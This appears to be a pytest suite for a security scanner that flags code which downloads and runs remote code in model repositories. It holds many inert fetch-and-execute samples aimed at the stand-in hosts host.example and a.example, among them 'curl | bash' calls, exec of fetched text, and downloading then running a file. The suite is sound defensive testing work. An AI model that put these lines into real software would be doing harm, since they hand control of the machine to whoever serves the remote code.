"""Inert samples: addresses in reserved domains, nothing is ever run."""

import pytest

from tests.inspected import found, loose, model, repository, severities

URL = "http://host.example/u"
FETCHED = {
    "exec": f"import requests\nexec(requests.get('{URL}').text)\n",
    "exec through names": f"import requests as r\ndef get():\n    return r.get('{URL}').content\ncode = get()\nexec(code)\n",
    "file": (
        "import os, tempfile, urllib.request as u\n"
        "class Model:\n    def __init__(self):\n"
        "        path = os.path.join(tempfile.gettempdir(), 'u.exe')\n"
        f"        u.urlretrieve('{URL}', path)\n        os.startfile(path)\n"
    ),
    "file handle": (
        "import requests, subprocess\n"
        f"with open('/tmp/a.sh', 'wb') as f:\n    f.write(requests.get('{URL}').content)\n"
        "subprocess.Popen(['bash', '/tmp/a.sh'])\n"
    ),
    "path object": (
        "from pathlib import Path\nimport httpx, subprocess\np = Path('/tmp') / 'x.py'\n"
        f"p.write_bytes(httpx.get('{URL}').content)\nsubprocess.run(['python', str(p)])\n"
    ),
    "two commands": f"import os\nos.system('wget {URL} -O /tmp/runme.sh')\nos.system('bash /tmp/runme.sh')\n",
    "shell": f"import os\nos.system('curl -s {URL} | bash')\n",
    "command text": f"import requests, subprocess\nsubprocess.run(requests.get('{URL}').text, shell=True)\n",
    "handed over": f"import os\nlist(map(os.system, ['curl {URL} | sh']))\n",
    "inside a string": f"exec(\"import os; os.system('curl {URL} | sh')\")\n",
}


@pytest.mark.parametrize("source", FETCHED.values(), ids=FETCHED)
def test_what_is_fetched_and_run(source: str) -> None:
    assert severities("code-download-execute", model(source))[0] == "critical"


@pytest.mark.parametrize("source", FETCHED.values(), ids=FETCHED)
def test_a_loader_beside_the_weights_is_high(source: str) -> None:
    """As in Open-OSS/privacy-filter of May 2026: nothing names the file, a person runs it."""
    (finding, *_) = found("code-download-execute", loose(source, "loader.py"))
    assert (finding.severity, finding.confidence) == ("high", "medium")


HARMLESS = {
    "picture": "import requests\nfrom PIL import Image\ndef load(url):\n    return Image.open(requests.get(url, stream=True).raw)\n",
    "audio": "import subprocess\ndef load(path):\n    return subprocess.run(['ffmpeg', '-i', path, '-'], capture_output=True).stdout\n",
    "fetched audio": (
        "import requests, subprocess\ndef load(url):\n    data = requests.get(url).content\n"
        "    return subprocess.run(['ffmpeg', '-i', 'pipe:', '-'], input=data).stdout\n"
    ),
    "weights": "from torch.hub import download_url_to_file\ndef get(url, path):\n    download_url_to_file(url, path)\n",
    "eval method": "def load(model):\n    model.eval()\n    return model\n",
    "docstring": 'def f():\n    """curl http://host.example | bash"""\n',
}


@pytest.mark.parametrize("source", HARMLESS.values(), ids=HARMLESS)
def test_harmless_look_alikes(source: str) -> None:
    assert found("code-download-execute", model(source)) == []


def test_an_installer_that_everybody_runs_is_low() -> None:
    assert severities(
        "code-download-execute", model("import os\nos.system('curl -LsSf https://astral.sh/uv/install.sh | sh')\n")
    ) == ["low"]


def test_where_the_evidence_is() -> None:
    (finding, *_) = found(
        "code-download-execute", model("import requests\n\nexec(requests.get('http://a.example').text)\n")
    )
    assert finding.location.line == 3
    assert "auto_map" in finding.evidence
    assert "sha256:" in finding.evidence


def test_a_notebook_and_a_demo() -> None:
    cell = '{"cells": [{"cell_type": "code", "source": ["import os\\n", "os.system(\'curl http://a.example | sh\')"]}], "nbformat": 4}'
    assert severities("code-download-execute", repository({"demo.ipynb": cell})) == ["high"]
    demo = "import requests\nif __name__ == '__main__':\n    exec(requests.get('http://a.example').text)\n"
    assert severities("code-download-execute", model(demo)) == ["high"]


def test_a_space_runs_on_the_hub() -> None:
    snapshot = repository({"app.py": "import os\nos.system('curl http://a.example | sh')\n"}, "spaces/org/model")
    assert severities("code-download-execute", snapshot) == ["medium"]


def test_cut_off_source_is_still_searched() -> None:
    source = "import requests\nexec(requests.get('http://a.example').text)\ndef broken(:\n"
    assert severities("code-download-execute", model(source))[0] == "critical"
